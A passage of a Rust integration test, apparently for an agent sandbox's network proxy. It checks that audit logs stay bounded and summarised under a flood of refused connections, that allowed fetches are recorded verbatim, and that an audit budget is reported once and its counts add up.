            flood.len() <= windows * (100 + 64 + 64 + 1) + 5,
            "{runtime}: {} lines in {took:?}",
            flood.len()
        );
        assert!(
            (flood.len() as u64) * 10 < refused,
            "{runtime}: {} lines for {refused} refusals",
            flood.len()
        );
        // A verbatim refusal is about 470 bytes: the whole log is a tenth of that per
        // refusal at most.
        assert!(
            (text.len() as u64) < refused * 47,
            "{runtime}: {} bytes for {refused} refusals",
            text.len()
        );
        // The other run: each connection and its close, verbatim; nothing held back.
        let allowed = tally::tally(&fetch, |e| {
            e.event_type == "agent.net.connect"
                && e.resource == Some("allowed.test:80")
                && e.outcome == "success"
        });
        assert_eq!(
            allowed,
            tally::Tally {
                verbatim: 10,
                summarized: 0,
                unknown: 0
            },
            "{runtime}: connect and close of each of the 5 fetches"
        );
        assert!(
            fetch
                .iter()
                .all(|e| e["action"] != "audit.summary" && e["action"] != "audit.limit"),
            "{runtime}: {fetch:#?}"
        );

        case(&format!(
            "{runtime}: a run that reaches its audit budget says so once, then only counts; the counts add up at its end"
        ));
        let home = Spawn {
            home: tempfile::tempdir().unwrap(),
            dns: spawn.dns,
        };
        // The budget is reached in the flood's first window, however fast the machine
        // (at 5 verbatim per key and window, a flood that ended within 0.7 s never wrote 60).
        let flood = Flood::start(
            &home,
            runtime,
            2000,
            0,
            Some("events=60,window=100ms,keys=8,per-key=100,per-window=100"),
        );
        let (refused, _) = flood.finish(runtime);
        assert!(refused >= 2000, "{runtime}: {refused}");
        let trace = home.audit();
        assert_eq!(by_trace(&trace).len(), 1, "{runtime}");
        let budget: Vec<usize> = trace
            .iter()
            .enumerate()
            .filter(|(_, e)| e["action"] == "audit.limit" && e["resource"]["name"] == "budget")
            .map(|(i, _)| i)
            .collect();
        assert_eq!(budget.len(), 1, "{runtime}: {trace:#?}");
        let reached = &trace[budget[0]];
        assert_eq!(
            reached["details"]["writtenEvents"], 60,
            "{runtime}: {reached}"
        );
        // After it: only the final summaries, the proxy's totals and the run's stop.
        for e in &trace[budget[0] + 1..] {
            assert!(
                (e["action"] == "audit.summary" && e["details"]["final"] == true)
                    || e["action"] == "summary"
                    || e["eventType"] == "agent.stop",
                "{runtime}: written after the budget was reached: {e}"
            );
        }
        // The proxy's share: 60, the limit event, a summary per key and kind and the
        // catch-all (2 × 8 + 1), its totals; spawn's own: start, exec, stop.
        assert!(
            trace.len() <= 60 + 1 + 17 + 1 + 3,
            "{runtime}: {} lines",
            trace.len()
        );
        let t = tally::refusals(&trace, "not-allowlisted");
        assert_eq!((t.total(), t.unknown), (refused, 0), "{runtime}: {t:?}");
        assert_eq!(
            net_summary(&trace)["details"]["connectionsDenied"],
            refused,
            "{runtime}"
        );
    }

    private_hits.store(0, Ordering::SeqCst);

    assert!(public_hits.load(Ordering::SeqCst) > 0);
    // spawn's record that forwarding is its own, for this namespace (which ends with the
    // test).
    let _ = std::fs::remove_file(forwarding_record());
    println!("network: {passed} passed, 0 failed");
}
